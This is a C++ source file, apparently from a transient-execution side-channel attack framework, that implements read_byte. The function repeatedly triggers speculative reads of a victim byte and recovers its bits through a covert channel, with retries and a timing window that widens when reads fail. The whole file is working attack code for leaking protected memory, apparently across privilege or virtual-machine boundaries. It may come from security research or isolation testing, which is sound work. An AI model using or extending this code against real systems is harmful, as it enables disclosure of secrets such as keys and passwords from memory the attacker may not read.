// SPDX-License-Identifier: MIT
#include "guest/attacks/byte_reader.h"

namespace attacks {

namespace {

/// The first fetches what is to be read; if the next ones come to nothing, time is what is missing.
constexpr unsigned short_attempts = 4;

/// Receives `count` bits from `first` on into `value`; false unless all of them were sent.
bool receive(const CovertChannel& channel, unsigned first, unsigned count, unsigned& value) {
    bool all = true;
    for (unsigned bit = first; bit < first + count; ++bit) {
        const std::optional<bool> received = channel.receive(bit);
        all = all && received.has_value();
        value |= static_cast<unsigned>(received.value_or(false)) << bit;
    }
    return all;
}

}  // namespace

ByteGuess read_byte(TransientReader& reader, const CovertChannel& channel, const Victim& victim,
                    unsigned most_attempts, Window& window) {
    const unsigned at_once = victim.portion == Portion::Byte ? CovertChannel::bits : 1;
    ByteGuess guess;
    unsigned value = 0;
    for (unsigned bit = 0; bit < CovertChannel::bits; bit += at_once) {
        bool received = false;
        for (unsigned i = 0; i < most_attempts && !received; ++i) {
            ++guess.attempts;
            reader.attempt({.victim = victim.byte,
                            .channel = channel.base() + bit * CovertChannel::bit_stride,
                            .zero_channel = channel.nowhere(),
                            .bit = bit,
                            .victim_is_readable = victim.readable,
                            .window = window});
            unsigned bits = 0;
            received = receive(channel, bit, at_once, bits);
            value |= received ? bits : 0;
            if (!received && i + 1 == short_attempts) {
                window = Window::Long;
            }
        }
        if (!received) {
            return guess;
        }
        ++guess.hits;
    }
    guess.known = true;
    guess.value = static_cast<std::uint8_t>(value);
    return guess;
}

}  // namespace attacks
